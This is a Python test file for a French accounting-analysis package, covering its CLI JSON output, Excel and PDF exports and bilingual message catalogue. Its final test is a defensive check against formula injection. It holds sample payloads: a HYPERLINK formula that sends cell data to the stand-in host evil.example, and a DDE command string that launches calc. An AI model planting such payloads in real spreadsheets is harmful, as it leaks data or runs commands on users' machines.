"""CLI JSON, round trip of a saved analysis, Excel and PDF exports (fr/en), message catalogue."""
from __future__ import annotations

import io
import json
import re
import string
import subprocess
import sys
from functools import cache
from pathlib import Path

import pytest
from openpyxl import load_workbook

import finance
from finance.alerts import compute_alerts
from finance.analysis import HEADLINE, YearAnalysis, analyse
from finance.cli import main
from finance.export import excel_report, pdf_report
from finance.messages import catalogue, text
from finance.ratios import RATIOS
from finance.tables import all_tables
from tests.unit.finance.helpers import build, real_file, simple_rows, write

ROOT = Path(__file__).resolve().parents[3]
CLI_KEYS = set(HEADLINE) | {"caf", "frng", "bfr", "tresorerie_nette", "ratios", "checks"}


@cache
def _years() -> list[YearAnalysis]:
    return analyse(real_file("111111111FEC20221231.TXT"), real_file("000000000FEC20231231.txt"))


def test_cli_json_has_one_object_per_year_with_numbers(capsys):
    paths = [str(real_file("000000000FEC20231231.txt")), str(real_file("111111111FEC20221231.TXT"))]
    assert main(["analyse", *paths, "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert len(data) == 2 and all(set(year) >= CLI_KEYS for year in data)
    for year in data:
        assert all(isinstance(year[k], float) for k in CLI_KEYS - {"ratios", "checks"})
        assert {"caf_methods_agree", "frng_bfr_tn", "entries_balanced"} <= set(year["checks"])
        assert all(isinstance(v, (float, type(None))) for v in year["ratios"].values())
    by_source = {y["source"]: y for y in data}
    assert by_source["000000000FEC20231231.txt"]["resultat_net"] == 3988.38
    assert by_source["111111111FEC20221231.TXT"]["tresorerie_nette"] == 26061.92


def test_python_dash_m_finance_on_a_real_file():
    path = real_file("123456789FEC20500930.txt")
    done = subprocess.run([sys.executable, "-m", "finance", "analyse", str(path), "--json"], cwd=ROOT,
                          capture_output=True, text=True, timeout=120, check=False)
    assert done.returncode == 0, done.stderr
    year = json.loads(done.stdout)[0]
    assert year["resultat_net"] == 126233.91 and year["caf"] == 142767.77 and year["frng"] == 74677.92
    assert year["checks"]["caf_methods_agree"]["ok"] and year["checks"]["frng_bfr_tn"]["ok"]


def test_cli_table_validate_and_template(tmp_path, capsys):
    path = write(tmp_path, build(simple_rows()))
    assert main(["analyse", str(path), "--lang", "en"]) == 0
    out = capsys.readouterr().out
    assert "Net result" in out and "200.00" in out
    assert main(["validate", str(path), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)[0]["ok"] is True
    template = tmp_path / "modele.xlsx"
    assert main(["template", str(template)]) == 0
    assert load_workbook(template)["2033"]["A1"].value.startswith("Liasse simplifiée")


def test_cli_writes_exports(tmp_path):
    path = write(tmp_path, build(simple_rows()))
    assert main(["analyse", str(path), "--excel", str(tmp_path / "a.xlsx"), "--pdf", str(tmp_path / "a.pdf")]) == 0
    assert (tmp_path / "a.pdf").read_bytes().startswith(b"%PDF")
    assert "Synthèse" in load_workbook(tmp_path / "a.xlsx").sheetnames


def test_to_dict_round_trips_through_json():
    for year in _years():
        data = json.loads(json.dumps(year.to_dict()))
        again = YearAnalysis.from_dict(data)
        assert again.to_dict() == data
        assert again.sig == {k: v.quantize(v.__class__("0.01")) for k, v in year.sig.items()}
        assert again.validation.to_dict() == year.validation.to_dict()
        assert [a.to_dict() for a in again.alerts] == [a.to_dict() for a in year.alerts]


def test_restored_analysis_exports_like_the_original():
    restored = [YearAnalysis.from_dict(json.loads(json.dumps(y.to_dict()))) for y in _years()]
    assert [t.rows for t in all_tables(restored, "fr")] == [t.rows for t in all_tables(_years(), "fr")]


@pytest.mark.parametrize("lang", ["fr", "en"])
def test_excel_workbook_has_every_table_in_the_language(lang):
    book = load_workbook(io.BytesIO(excel_report(_years(), lang)))
    expected = {"fr": ["Synthèse", "SIG", "CAF", "Bilan fonctionnel", "Ratios", "Alertes", "Contrôles"],
                "en": ["Summary", "SIG", "CAF", "Functional balance sheet", "Ratios", "Alerts", "Checks"]}[lang]
    assert book.sheetnames[: len(expected)] == expected
    names = " ".join(book.sheetnames)
    labels = [y.label for y in _years()]
    for prefix in {"fr": ("Liasse 2033", "Liasse 2050", "Balance", "Mensuel"),
                   "en": ("Return 2033", "Return 2050", "Trial balance", "Monthly")}[lang]:
        assert all(f"{prefix} {label}" in names for label in labels), prefix
    assert book["SIG"]["A1"].value == text("finance.table.sig", lang)
    sig = book[book.sheetnames[1]]
    labels = [row[0].value for row in sig.iter_rows(min_row=4)]
    assert text("finance.sig.ebe", lang) in labels
    ratios = book["Ratios"]
    formulas = [row[2].value for row in ratios.iter_rows(min_row=4)]
    assert text("finance.formula.taux_marge_ebe", lang) in formulas


@pytest.mark.parametrize("lang", ["fr", "en"])
def test_pdf_report(lang):
    pdf = pdf_report(_years(), lang)
    assert pdf.startswith(b"%PDF") and len(pdf) > 20_000
    assert pdf.count(b"/Type /Image") + pdf.count(b"/Subtype /Image") >= 3  # SIG, bilan, monthly charts


def test_lazy_public_api():
    assert finance.build_template is not None and finance.excel_report is excel_report
    with pytest.raises(AttributeError):
        finance.no_such_thing  # noqa: B018


# --- message catalogue -----------------------------------------------------------------------------------------

def _fields(template: str) -> set[str]:
    return {name for _, name, _, _ in string.Formatter().parse(template) if name}


def test_catalogue_shape_and_languages():
    for key, texts in catalogue().items():
        assert key.startswith("finance."), key
        assert set(texts) == {"fr", "en"} and all(texts.values()), key
        assert _fields(texts["fr"]) == _fields(texts["en"]), key


def test_every_key_used_in_code_exists():
    source = "\n".join(p.read_text(encoding="utf-8") for p in (ROOT / "finance").glob("*.py"))
    literal = set(re.findall(r'"((?:fec|manual)\.(?:error|warning|info)\.[a-z0-9_]+)"', source))
    literal |= set(re.findall(r"\"(finance\.[a-z0-9_]+\.[a-z0-9_.]*[a-z0-9_])\"", source))  # not module names
    assert literal, "the scan found nothing"
    missing = {k for k in literal if ("finance." + k if not k.startswith("finance.") else k) not in catalogue()}
    assert not missing
    keys = set(catalogue())
    for ratio in RATIOS:
        assert {f"finance.ratio.{ratio.key}", f"finance.formula.{ratio.key}", f"finance.explain.{ratio.key}",
                f"finance.family.{ratio.family}", f"finance.unit.{ratio.unit}"} <= keys
    from finance.manual import LINES
    from finance.tables import ACTIF_2033, ACTIF_2050, CR_2033, CR_2052, PASSIF_2033, PASSIF_2051, SIG_ROWS
    for code in [c.rstrip("*") for c in ACTIF_2050 + PASSIF_2051 + CR_2052 + ACTIF_2033 + PASSIF_2033 + CR_2033]:
        assert f"finance.line.{code}" in keys
    for code, _, _ in LINES:
        assert (f"finance.line.{code}" if code[0].isdigit() else f"finance.manual.{code}") in keys
    assert all(f"finance.sig.{k}" in keys for k in SIG_ROWS + HEADLINE)


def test_every_alert_has_a_message_with_its_values():
    values = {k: 1.0 for k in ("chiffre_affaires", "ventes_marchandises", "marge_commerciale", "valeur_ajoutee",
                                "resultat_net", "caf", "dettes_financieres", "total_bilan", "tresorerie_nette",
                                "frng", "achats_marchandises", "capitaux_propres")}
    values.update(ebe=-1.0, resultat_net=-1.0, caf=-1.0, capitaux_propres=-1.0, tresorerie_nette=-1.0, frng=-1.0,
                  marge_commerciale=-1.0, ventes_marchandises=0.0, resultat_non_affecte=1.0, months=13)
    ratios = {"delai_clients": 90.0, "delai_fournisseurs": 90.0, "capacite_remboursement": 9.0,
              "poids_frais_financiers": 0.5, "autonomie_financiere": 0.1, "liquidite_generale": 0.5,
              "croissance_ca": -0.5}
    values.update(clients=1.0)
    alerts = compute_alerts(values, ratios)
    assert len(alerts) >= 14
    for alert in alerts:
        for lang in ("fr", "en"):
            message = text(alert.key, lang, **alert.values)
            assert "{" not in message and message != alert.key, (alert.code, message)


def test_tables_convert_to_frames():
    frame = all_tables(_years(), "en")[1].frame()
    assert list(frame.columns) == ["Item", *[y.display_label("en") for y in _years()]] and len(frame) > 20


def test_all_tables_render_with_no_raw_keys():
    for lang in ("fr", "en"):
        for table in all_tables(_years(), lang):
            cells = [table.title, *table.columns] + [c for row in table.rows for c in row if isinstance(c, str)]
            assert not [c for c in cells if c.startswith("finance.")], table.key


def test_amounts_in_messages_are_written_the_local_way():
    from decimal import Decimal

    from finance.messages import format_number
    assert format_number(14472.55, "fr") == "14\u202f472,55" and format_number(14472.55, "en") == "14,472.55"
    assert format_number(Decimal("-1281.00"), "fr") == "-1\u202f281"
    assert "1\u202f583,35 €" in text("finance.alert.resultat_non_affecte", "fr", montant=1583.35)
    assert "Line 12" in text("finance.fec.error.date", "en", line=12, value="x")  # ints stay as they are


def test_no_formula_reaches_the_workbook_from_fec_text(tmp_path):
    """Formula injection (issue 15): FEC labels like =HYPERLINK(...) stay text in the analysis workbook."""
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
    rows = [dict(r, EcritureLib=evil, CompteLib=evil, JournalLib="+cmd|' /C calc'!A0", CompAuxLib="@SUM(1+1)")
            for r in simple_rows()]
    years = analyse(write(tmp_path, build(rows)))
    book = load_workbook(io.BytesIO(excel_report(years, "fr")))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(("=", "+", "@"))]
    assert any(evil in t for t in texts), "the label itself is kept, as text"
